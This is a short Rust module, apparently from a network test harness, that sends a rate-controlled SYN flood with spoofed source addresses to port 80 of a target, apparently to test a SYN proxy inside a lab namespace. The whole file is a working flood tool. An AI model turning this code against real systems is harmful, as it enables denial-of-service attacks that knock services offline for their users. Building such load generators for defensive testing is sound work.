//! SYNs from invented addresses, as many per second as asked for, until the process is ended.

use std::net::Ipv4Addr;
use std::time::{Duration, Instant};

use anyhow::Result;
use march_wire::build::PacketBuilder;
use march_wire::tcp::SYN;

use crate::frames::{CLIENT_MAC, PROXY_MAC, Raw};

/// Sends to port 80 of `target` out of `interface` of the present namespace.
pub fn run(interface: &str, target: Ipv4Addr, per_second: u32) -> Result<()> {
    const STEP: Duration = Duration::from_millis(5);
    let socket = Raw::open(interface)?;
    let started = Instant::now();
    let mut state = 0x666c_6f6f_6421_u64;
    let mut sent = 0_u64;
    loop {
        let due = started.elapsed().as_millis() * u128::from(per_second) / 1_000;
        while u128::from(sent) < due {
            // xorshift64*: plenty for inventing addresses.
            state ^= state >> 12;
            state ^= state << 25;
            state ^= state >> 27;
            let [_, a, b, c, high, low, ..] =
                state.wrapping_mul(0x2545_f491_4f6c_dd1d).to_be_bytes();
            // 11.0.0.0/8 is nobody's here, and no answer finds a way to it.
            let source = Ipv4Addr::new(11, a, b, c | 1);
            let port = u16::from_be_bytes([high, low]) | 1024;
            let syn = PacketBuilder::new(source, target)
                .macs(CLIENT_MAC, PROXY_MAC)
                .tcp(port, 80, SYN)
                .padded_to(60);
            // A full queue of the interface is part of a flood.
            let _ = socket.send(&syn.build());
            sent += 1;
        }
        std::thread::sleep(STEP);
    }
}
